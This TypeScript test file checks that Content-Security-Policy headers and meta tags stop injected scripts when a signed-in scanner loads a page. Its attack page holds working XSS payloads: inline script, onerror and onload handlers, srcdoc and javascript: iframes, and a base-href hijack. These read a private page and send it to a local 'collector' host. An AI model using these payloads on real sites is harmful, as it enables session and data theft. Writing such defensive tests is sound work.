import { afterAll, beforeAll, expect, it } from 'vitest';
import { listNodes, page, type Site, scan, serve } from './harness.ts';
import { protect, testPolicies } from './policy-pages.ts';

const ATTACK = '/attack';
let site: Site;
/** Receives what an injected script reads. */
let collector: Site;
/** Whether `/private` was requested with the cookie of the credentials. */
let readPrivately = false;

/** Tries in every way to run a script that reads a private page and sends it to the collector. */
function buildInjectedPage(): string {
  const read = `fetch('/private').then((answer) => answer.text()).then((text) => {
    document.title = text; new Image().src = '${collector.url('/stolen')}?' + text; });`;
  return page(
    `<p>A comment: <script>${read}</script><img src="/missing.png" alt="" onerror="${read.replaceAll('"', '&quot;')}">
     <svg onload="${read.replaceAll('"', '&quot;')}"><title>x</title></svg>
     <script src="${collector.url('/script.js')}"></script>
     <iframe title="a" srcdoc="<script>parent.document.title = 'framed'; ${read.replaceAll('"', '&quot;')}</script>"></iframe>
     <iframe title="b" src="javascript:parent.eval(${JSON.stringify(read).replaceAll('"', '&quot;')})"></iframe>
     <object data="${collector.url('/object')}"></object></p>`,
    `<link rel="modulepreload" href="${collector.url('/module.js')}"><base href="${collector.url('/')}">`,
  );
}

beforeAll(async () => {
  collector = await serve({ '/script.js': (_, response) => response.end('document.title = "external"') });
  site = await serve({
    '/private': (request, response) => {
      readPrivately ||= request.headers.cookie === 'session=secret-session';
      response.end('private-text');
    },
    [ATTACK]: protect(buildInjectedPage, "default-src 'self'; base-uri 'none'; object-src 'none'"),
    '/meta': protect(
      () =>
        buildInjectedPage().replace(
          '<head>',
          `<head><meta http-equiv="Content-Security-Policy" content="default-src 'self'; base-uri 'none'; object-src 'none'">`,
        ),
      undefined,
    ),
    '/allowed': protect(
      () => page(`<div id="out"></div><script nonce="abc">out.innerHTML = '<button></button>'</script>`),
      "script-src 'nonce-abc'",
    ),
  });
});
afterAll(async () => {
  await site?.close();
  await collector?.close();
});

testPolicies(['nothing', 'trusted types']);

it('a page runs the scripts that its policy allows, and none that the browsers of users block, also if signed in', async () => {
  const { results } = await scan([ATTACK, '/meta', '/allowed'].map(site.url), {
    credentials: {
      origin: new URL(site.url('/')).origin,
      headers: {},
      cookies: [{ name: 'session', value: 'secret-session', path: '/', httpOnly: false }],
      basic: null,
    },
  });
  expect(results.map(({ title }) => title)).toEqual(['A page', 'A page', 'A page']);
  expect(listNodes(results[2])).toEqual(['button-name ["button"]']);
  expect(site.requests).toEqual(expect.arrayContaining([ATTACK, '/meta']));
  expect(site.requests).not.toContain('/private');
  expect(collector.requests).toEqual([]);
  expect(readPrivately).toBe(false);
});
